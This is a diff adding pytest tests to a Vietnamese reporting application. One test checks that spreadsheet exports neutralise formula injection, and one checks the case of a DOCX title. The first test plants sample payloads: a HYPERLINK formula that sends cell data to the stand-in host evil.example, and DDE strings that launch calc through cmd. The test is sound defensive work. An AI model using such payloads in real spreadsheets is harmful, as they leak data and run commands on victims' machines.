@@ -92,3 +92,36 @@ def test_weasyprint_pdf_carries_the_same_figures(result, tmp_path):
     text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], check=True, capture_output=True,
                           timeout=60).stdout.decode("utf-8")
     assert "BÁO CÁO" in text and "Phường Ninh Kiều" in text and "2/3" in text
+
+
+def test_xlsx_never_holds_a_formula_from_the_data(tree, result):
+    """A template title, a unit name, an indicator label or a commune's text starting with = + - @ is written as
+    text with an apostrophe in front: no spreadsheet runs it."""
+    from openpyxl import load_workbook
+
+    from danchu.steering.models import Indicator, SubmissionValue
+
+    template = result.template
+    template.title = '=HYPERLINK("http://evil.example/?"&A2,"Bấm vào đây")'
+    Indicator.objects.filter(template=template, code="1").update(label="+1+cmd|' /C calc'!A0")
+    SubmissionValue.objects.filter(indicator__code="3").update(text="@SUM(1+1)*cmd|' /C calc'!A0")
+    tree.commune_b.name = "-2+3 Phường"
+    tree.commune_b.save(update_fields=["name"])
+    fresh = services._rollup(template=template, scope=tree.province, start=date(2021, 1, 1), end=date(2025, 12, 31))
+    fresh.label = "Giai đoạn 2021–2025"
+    wb = load_workbook(io.BytesIO(documents.rollup_xlsx(fresh)))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert cells and all(c.data_type == "s" for c in cells)
+    texts = [c.value for c in cells]
+    assert all(not t.startswith(("=", "+", "-", "@")) for t in texts)
+    assert texts[0].startswith("'=HYPERLINK(")
+    assert any(t.startswith("'-2+3 Phường") for t in texts)
+    assert any(t.startswith("'@SUM") for t in texts)
+    assert "1. +1+cmd" in " ".join(texts)  # the code comes first: harmless
+
+
+def test_docx_keeps_the_case_of_the_template_title(result):
+    result.template.title = "Báo cáo sơ kết thực hiện Kết luận số 120-KL/TW"
+    text = _docx_text(documents.rollup_docx(result, on=date(2026, 1, 5)))
+    assert "Thực hiện Báo cáo sơ kết thực hiện Kết luận số 120-KL/TW, Ban Chỉ đạo tổng hợp" in text
+    assert "120-kl/tw" not in text
